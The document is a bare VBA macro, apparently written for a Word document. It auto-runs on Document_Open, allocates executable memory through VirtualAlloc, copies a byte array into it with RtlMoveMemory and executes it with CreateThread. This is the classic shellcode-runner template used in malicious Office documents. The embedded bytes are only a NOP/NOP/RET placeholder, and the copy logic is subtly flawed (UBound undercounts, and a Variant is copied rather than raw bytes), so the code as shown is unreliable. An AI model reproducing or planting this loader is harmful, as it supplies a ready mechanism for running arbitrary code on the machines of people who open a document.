Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal lpAddress As LongPtr, ByVal dwSize As Long, ByVal flAllocationType As Long, ByVal flProtect As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal lDestination As LongPtr, ByRef sSource As Any, ByVal lLength As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal SecurityAttributes As Long, ByVal StackSize As Long, ByVal StartFunction As LongPtr, ThreadParameter As LongPtr, ByVal CreateFlags As Long, ByRef ThreadId As Long) As LongPtr
Sub Document_Open()
    Dim buf As Variant, addr As LongPtr
    buf = Array(144, 144, 195)
    addr = VirtualAlloc(0, UBound(buf), &H3000, &H40)
    RtlMoveMemory addr, buf(0), UBound(buf)
    CreateThread 0, 0, addr, 0, 0, 0
End Sub
